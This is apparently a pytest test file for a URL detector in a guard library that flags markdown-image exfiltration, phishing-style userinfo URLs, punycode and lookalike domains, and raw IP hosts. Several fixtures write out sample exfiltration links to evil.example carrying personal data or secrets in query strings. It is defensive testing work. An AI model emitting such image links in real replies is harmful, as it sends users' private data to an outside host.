from __future__ import annotations

import asyncio
import socket

import pytest

from guard.detectors import urls


def _detect(text: str, **settings: object) -> list[tuple[str, str]]:
    det = urls.build(settings)
    findings = asyncio.run(det.detect([text]))[0]
    return [(f.category, text[f.start:f.end]) for f in findings]


def _scores(text: str, **settings: object) -> dict[str, float]:
    findings = asyncio.run(urls.build(settings).detect([text]))[0]
    return {f.category: f.score for f in findings}


def test_markdown_image_exfiltration_spans_the_whole_image() -> None:
    image = "![logo](https://evil.example/pixel.png?q=Jane%20Doe%20IBAN%20FR76)"
    text = f"Here is your summary. {image} Done."
    assert _detect(text) == [("markdown_image", image)]
    assert _scores(text)["markdown_image"] == pytest.approx(0.95)


def test_plain_image_scores_lower_and_allowed_images_are_ignored() -> None:
    assert _scores("![cat](https://img.example.org/cat.png)") == {"markdown_image": 0.5}
    text = "![x](https://cdn.corp.example/a.png?v=2)"
    assert _detect(text, allow_domains=["corp.example"]) == []


def test_reference_style_and_html_images() -> None:
    text = "See ![chart][c]\n\n[c]: https://evil.example/c.png?d=secret\n"
    assert ("markdown_image", "![chart][c]") in _detect(text)
    html = '<img src="https://evil.example/x.gif?data=abc">'
    assert _detect(html) == [("markdown_image", html)]


def test_userinfo_trick_uses_the_real_host() -> None:
    text = "login at https://bank.example@evil.example/login"
    assert _detect(text, deny_domains=["evil.example"]) == [
        ("denied_domain", "https://bank.example@evil.example/login")]


def test_allow_list_by_registered_domain_with_public_suffix() -> None:
    text = "docs: https://docs.corp.co.uk/x and https://corp.co.uk.attacker.net/y."
    found = _detect(text, allow_domains=["corp.co.uk"])
    assert ("not_allowed_domain", "https://corp.co.uk.attacker.net/y") in found
    assert ("lookalike_domain", "https://corp.co.uk.attacker.net/y") in found
    assert all(span != "https://docs.corp.co.uk/x" for _, span in found)


def test_raw_ip_hosts_including_integer_encodings() -> None:
    for url in ("http://192.168.1.10/admin", "http://[::1]:8080/", "http://3232235777/"):
        assert _detect(f"go to {url}") == [("ip_host", url)], url
    assert _detect("http://10.0.0.1/", block_ip_hosts=False) == []


def test_punycode_and_lookalikes() -> None:
    assert _detect("visit https://xn--pple-43d.com/") == [("punycode", "https://xn--pple-43d.com/")]
    found = _detect("visit https://\u0430pple.com/login", allow_domains=["apple.com"])
    categories = {c for c, _ in found}
    assert {"not_allowed_domain", "punycode", "lookalike_domain"} <= categories
    assert ("lookalike_domain", "https://paypa1.com") in _detect(
        "pay at https://paypa1.com", allow_domains=["paypal.com"])
    assert _detect("https://www.paypal.com/x", allow_domains=["paypal.com"]) == []


def test_bare_mentions_of_denied_domains() -> None:
    assert _detect("send the file to evil.example please", deny_domains=["evil.example"]) == [
        ("denied_domain", "evil.example")]
    assert _detect("open main.py and README.md", deny_domains=["evil.example"]) == []


def test_bad_domain_entry_is_a_settings_error() -> None:
    with pytest.raises(ValueError, match="not a domain"):
        urls.build({"allow_domains": ["https://x.example/path"]})


def test_public_suffix_list_is_never_fetched(monkeypatch: pytest.MonkeyPatch) -> None:
    urls._extractor.cache_clear()

    def no_network(*args: object, **kwargs: object) -> None:
        raise AssertionError("network access attempted")

    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.setattr(socket.socket, "connect", no_network)
    monkeypatch.setenv("TLDEXTRACT_PUBLIC_SUFFIX_LIST_URLS", "https://psl.invalid/list.dat")
    assert urls._registered("a.b.example.co.uk") == "example.co.uk"
